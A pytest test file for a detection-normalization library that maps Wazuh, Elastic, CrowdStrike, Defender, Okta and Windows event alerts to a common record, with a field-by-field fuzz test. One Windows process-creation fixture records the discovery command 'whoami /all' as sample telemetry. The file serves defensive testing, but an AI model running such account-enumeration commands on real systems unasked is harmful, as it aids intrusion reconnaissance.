def test_generic_invalid_field(field: str, value: object, message: str) -> None:
    document = generic_detection()
    document[field] = value

    with pytest.raises(NormalizationError) as caught:
        normalize("generic", document)

    assert caught.value.field == field
    assert message in str(caught.value)


def test_generic_okta_event() -> None:
    detection = normalize("generic", okta_event())

    assert detection.source == "generic"
    assert detection.external_id == "6b1d7c2e-0000-11f0-9c1b-0123456789ab"
    assert detection.title == "Max sign in attempts exceeded (user.account.lock)"
    assert detection.severity == "medium"
    assert detection.original_severity == "WARN"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.hostname == ""
    assert detection.username == "m.weber@corp.example"


def test_generic_okta_lowercase_keys_and_ip_actor() -> None:
    document = okta_event()
    document["eventtype"] = document.pop("eventType")
    document["displaymessage"] = document.pop("displayMessage")
    document["published"] = "2026-03-02 10:15:00.000000000"
    document["actor"] = {"alternateId": "unknown", "type": "IP address"}

    detection = normalize("generic", document)

    assert detection.title == "Max sign in attempts exceeded (user.account.lock)"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.username == ""


@pytest.mark.parametrize(
    ("level", "expected"),
    [("DEBUG", "low"), ("INFO", "low"), ("WARN", "medium"), ("ERROR", "high")],
)
def test_generic_okta_severity(level: str, expected: str) -> None:
    document = okta_event()
    document["severity"] = level

    assert normalize("generic", document).severity == expected


def test_generic_okta_invalid_published() -> None:
    document = okta_event()
    document["published"] = "redacted"

    with pytest.raises(NormalizationError) as caught:
        normalize("generic", document)

    assert caught.value.field == "published"


def test_generic_windows_event() -> None:
    detection = normalize("generic", windows_event())

    assert detection.external_id == "FIN-LAPTOP-7:Security:991"
    assert detection.title == "Windows event 4688: A new process has been created"
    assert detection.severity == "medium"
    assert detection.original_severity == ""
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.hostname == "FIN-LAPTOP-7"
    assert detection.username == "CORP\\m.weber"
    assert detection.command_line == "whoami /all"
    assert detection.file_path == "C:\\Windows\\System32\\whoami.exe"


def test_generic_windows_event_missing_time() -> None:
    document = windows_event()
    del document["TimeCreated"]

    with pytest.raises(NormalizationError) as caught:
        normalize("generic", document)

    assert caught.value.field == "TimeCreated"


def test_generic_windows_event_xml_time() -> None:
    document = windows_event()
    document["TimeCreated"] = {"SystemTime": "2026-03-02T10:15:00.1234567Z"}

    detection = normalize("generic", document)

    assert detection.occurred == datetime(2026, 3, 2, 10, 15, 0, 123456, tzinfo=UTC)


def test_severities_are_the_four_levels() -> None:
    assert SEVERITIES == ("low", "medium", "high", "critical")


FIXTURES = [
    ("wazuh", wazuh_alert),
    ("elastic", elastic_alert),
    ("crowdstrike", crowdstrike_epp_event),
    ("crowdstrike", crowdstrike_alerts_api_entity),
    ("defender", defender_v1_alert),
    ("defender", defender_graph_alert),
    ("generic", generic_detection),
    ("generic", okta_event),
    ("generic", windows_event),
]

# Values of every JSON type, including the awkward ones, put in place of each
# field in turn.
ODD_VALUES = [None, [], {}, 0, -1, 1.5, "", "x", True, [None], [{}], {"a": 1}, 10**30]


def field_paths(value: object, prefix: tuple = ()) -> list[tuple]:
    """Return the path of every value inside a JSON document, the root included."""
    found = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            found += field_paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += field_paths(child, (*prefix, index))
    return found


def with_value(document: dict, path: tuple, value: object) -> object:
    if not path:
        return value
    document = copy.deepcopy(document)
    parent = document
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return document


@pytest.mark.parametrize(
    ("source", "factory"), FIXTURES, ids=[factory.__name__ for _, factory in FIXTURES]
)
def test_normalize_raises_only_normalization_error(source: str, factory) -> None:
    document = factory()
    error_sources = set()

    for path in field_paths(document):
        for value in ODD_VALUES:
            changed = with_value(document, path, value)
            try:
                detection = normalize(source, changed)  # type: ignore[arg-type]
            except NormalizationError as error:
                error_sources.add(error.source)
                continue
            assert detection.severity in SEVERITIES, (path, value)
            assert detection.occurred.tzinfo == UTC, (path, value)

    assert error_sources == {source}
